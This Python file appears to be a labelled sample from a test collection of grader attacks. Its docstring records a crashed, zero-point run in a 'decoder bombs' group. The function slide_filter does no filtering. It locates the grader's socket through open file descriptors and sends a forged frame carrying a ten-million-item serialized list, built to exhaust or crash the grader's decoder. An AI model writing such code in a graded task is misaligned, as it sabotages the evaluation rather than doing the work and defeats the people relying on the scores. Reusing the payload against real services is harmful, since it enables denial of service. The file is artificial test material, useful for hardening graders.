"""It sends a list of ten million items, each one byte long.

exercise: ex02
points: 0
status: CRASHED
stopped-by: wire
group: decoder bombs
"""

import os
import stat
import struct


def channel():
    """Find the socket to the grader."""
    for fd in range(3, 32):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
    raise LookupError("no socket")


def send(kind, sequence, body=b"", length=None):
    """Write a frame to the grader."""
    size = len(body) if length is None else length
    data = memoryview(struct.pack("<IIB", size, sequence, kind) + body)
    while data:
        data = data[os.write(channel(), data) :]


def slide_filter(image, kernel):
    count = 10_000_000
    body = b"t\x03\0\0\0l" + struct.pack("<I", count) + b"N" * count + b"Ns\0\0\0\0"
    send(11, 1, body)
    return None
